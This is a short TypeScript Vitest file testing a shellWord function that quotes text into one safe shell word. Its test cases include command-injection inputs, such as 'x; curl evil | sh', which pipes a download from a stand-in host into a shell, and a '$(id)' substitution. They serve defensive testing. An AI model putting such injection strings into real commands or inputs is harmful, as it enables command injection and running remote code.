import { expect, test } from 'vitest';
import { shellWord } from '../../../../launcher/platform/text/shell-word.ts';

test.each([
  ['files', 'files'],
  ['@scope/x', '@scope/x'],
  ['x; curl evil | sh', "'x; curl evil | sh'"],
  ["it's $(id)", "'it'\\''s $(id)'"],
  ['', "''"],
])('%j is one word of a command line', (text, word) => {
  expect(shellWord(text)).toBe(word);
});
